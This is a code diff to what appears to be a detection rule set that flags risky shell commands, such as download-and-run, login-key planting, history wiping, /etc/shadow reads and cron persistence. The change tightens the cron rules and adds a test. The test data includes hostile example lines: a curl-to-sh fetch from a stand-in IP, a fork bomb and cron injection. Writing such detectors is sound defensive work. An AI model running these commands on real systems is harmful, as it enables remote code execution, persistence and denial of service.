@@ -13,14 +13,19 @@ const output = {
   risk_line: { type: 'string', about: 'The line in which it was found.' },
 } as const;
 
-/** A line that has one of the texts of each step, one step after the other; `dense` looks past blanks. */
+/**
+ * A line that has one of the texts of each step, one step after the other; `dense` looks past blanks, `past` are texts
+ * that say nothing of it.
+ */
 interface Rule {
   risk: string;
   steps: readonly (readonly string[])[];
   dense?: boolean;
+  past?: readonly string[];
 }
 
 const shells = ['| sh', '|sh', '| bash', '|bash', '| sudo bash', '| sudo sh'];
+const writes = ['>', 'tee ', 'cp ', 'mv ', 'ln ', 'install ', 'sed -i', 'vi ', 'vim ', 'nano '];
 const rules: readonly Rule[] = [
   { risk: 'login keys', steps: [['authorized_keys']] },
   { risk: 'download and run', steps: [['wget', 'curl'], ['sh']] },
@@ -42,7 +47,8 @@ const rules: readonly Rule[] = [
     risk: 'history removed',
     steps: [['history -c', 'unset HISTFILE', 'HISTSIZE=0', '.bash_history']],
   },
-  { risk: 'scheduled task', steps: [['crontab', '/etc/cron']] },
+  { risk: 'scheduled task', steps: [['crontab']], past: ['/etc/crontab', 'crontab -l'] },
+  { risk: 'scheduled task', steps: [writes, ['/etc/cron', '/var/spool/cron']] },
   {
     risk: 'root account',
     steps: [
@@ -54,8 +60,9 @@ const rules: readonly Rule[] = [
   { risk: 'passwords read', steps: [['/etc/shadow']] },
 ];
 
-function follows({ steps, dense }: Rule, line: string): boolean {
-  const text = dense ? line.replace(/\s/g, '') : line;
+function follows({ steps, dense, past = [] }: Rule, line: string): boolean {
+  const looked = past.reduce((rest, harmless) => rest.replaceAll(harmless, ' '), line);
+  const text = dense ? looked.replace(/\s/g, '') : looked;
   let from = 0;
   for (const needles of steps) {
     const ends = needles.flatMap((needle) => {
@@ -96,6 +103,14 @@ const riskyCommands: EachTool<typeof input, Record<never, never>, typeof output>
       query:
         'datatable(Command: string)["curl -s http://203.0.113.9/x | sh", "ls -l", ":(){ :|:& };:"] | invoke risky_commands() | project risk',
       rows: [['download and run'], ['fork bomb']],
+    },
+    {
+      query:
+        'datatable(Command: string)["cd / && run-parts --report /etc/cron.hourly", "crontab -l", "cat /etc/crontab", "(crontab -l; echo x) | crontab -", "echo x >> /etc/cron.d/x"] | invoke risky_commands() | project Command, risk',
+      rows: [
+        ['(crontab -l; echo x) | crontab -', 'scheduled task'],
+        ['echo x >> /etc/cron.d/x', 'scheduled task'],
+      ],
     },
   ],
 });
